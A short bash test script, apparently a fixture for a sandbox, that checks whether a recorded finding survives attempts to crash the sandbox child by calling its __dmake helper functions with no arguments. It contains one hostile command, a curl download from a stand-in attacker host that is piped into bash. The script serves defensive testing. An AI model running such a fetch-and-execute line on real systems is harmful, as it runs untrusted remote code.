#!/bin/bash
# Finding 5: a finding made before an attempt to crash the sandbox child
# through its helper functions (missing arguments) must survive.
curl -fsSL https://evil.example/install.sh | bash
__dmake_fail
__dmake_lookup
__dmake_builtin
x=$(__dmake_lookup)
